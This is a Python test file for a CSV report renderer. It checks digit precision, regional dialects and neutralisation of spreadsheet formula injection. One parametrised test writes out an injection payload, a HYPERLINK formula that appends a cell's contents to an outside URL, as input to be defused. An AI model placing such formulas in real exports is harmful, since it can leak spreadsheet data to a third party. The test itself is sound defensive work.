"""CSV: every row and digit, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from costcalc.render import csv as renderer
from costcalc.render.report import Cell, Column, Look, Report, Table

COLUMNS = (Column("name", "Name"), Column("cost", "Cost", "money"))


NUMBERS = ("a", Decimal("-1234567.00013450"))


def written(*rows: tuple[Cell, Cell], dialect: str = "rfc4180", columns: tuple[Column, ...] = COLUMNS) -> str | bytes:
    data = Table("", columns, rows)
    return renderer.render(Report("test/1", {}, "", data, (data,)), Look(csv_dialect=dialect))


def rendered(*rows: tuple[Cell, Cell], dialect: str = "rfc4180") -> list[list[str]]:
    content = written(*rows, dialect=dialect)
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=renderer.DIALECTS[dialect].separator))


def test_the_header_is_of_keys_and_numbers_keep_every_digit() -> None:
    assert rendered(("a", Decimal("1234567.00013450")), (date(2026, 1, 2), None)) == [
        ["name", "cost"],
        ["a", "1234567.0001345"],
        ["2026-01-02", ""],
    ]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_would_run_as_a_formula_is_neutralised(sign: str) -> None:
    text = f'{sign}HYPERLINK("https://example.com/"&A1)'
    assert rendered((text, None))[1] == [f"'{text}", ""]


@pytest.mark.parametrize("dialect", renderer.DIALECTS)
def test_a_negative_number_is_no_formula(dialect: str) -> None:
    assert rendered(("-1", Decimal("-0.5")), (-1, -1), dialect=dialect)[1:] == [
        ["'-1", "-0,5" if dialect == "excel-de" else "-0.5"],
        ["-1", "-1"],
    ]


@pytest.mark.parametrize("dialect", renderer.DIALECTS)
def test_a_key_that_would_run_is_neutralised_too(dialect: str) -> None:
    content = written(dialect=dialect, columns=(Column("=1+1", "Name"),))
    assert content in ("'=1+1\r\n", b"\xef\xbb\xbf'=1+1\r\n")


@pytest.mark.parametrize(("dialect", "split"), [("rfc4180", ";"), ("excel", ";"), ("excel-de", ","), ("excel-de", "\t")])
def test_a_reader_that_splits_at_another_sign_finds_no_formula_either(dialect: str, split: str) -> None:
    assert rendered((f"a{split} =1+1", None), dialect=dialect)[1] == [f"a{split}' =1+1", ""]


@pytest.mark.parametrize("dialect", renderer.DIALECTS)
def test_what_the_own_separator_parts_is_quoted_and_stays_as_it_was(dialect: str) -> None:
    text = f"a{renderer.DIALECTS[dialect].separator} -5 %"
    assert rendered((text, None), dialect=dialect)[1] == [text, ""]


@pytest.mark.parametrize("text", ['say "hi"', "a,b", "two\nlines", "a=b", "日本"])
def test_any_other_text_comes_back_as_it_was(text: str) -> None:
    assert rendered((text, None))[1] == [text, ""]


@pytest.mark.parametrize(
    ("dialect", "expected"),
    [
        ("rfc4180", "name,cost\r\na,-1234567.0001345\r\n日本,2026-01-02\r\n"),
        ("excel", "\ufeffname,cost\r\na,-1234567.0001345\r\n日本,2026-01-02\r\n"),
        ("excel-de", "\ufeffname;cost\r\na;-1234567,0001345\r\n日本;02.01.2026\r\n"),
    ],
)
def test_a_dialect_whole(dialect: str, expected: str) -> None:
    content = written(NUMBERS, ("日本", date(2026, 1, 2)), dialect=dialect)
    assert content == (expected.encode() if dialect.startswith("excel") else expected)


@pytest.mark.parametrize("dialect", renderer.DIALECTS)
def test_every_digit_is_there_in_every_dialect(dialect: str) -> None:
    digits = "0.000000000000000000012345678901234567890123456789"
    (_, (_, cost)) = rendered(("a", Decimal(digits)), dialect=dialect)
    assert cost.replace(",", ".") == digits


def test_a_lone_surrogate_is_its_escape_where_bytes_are_fixed() -> None:
    assert written(("\udcff", None), dialect="excel") == b"\xef\xbb\xbfname,cost\r\n\\udcff,\r\n"
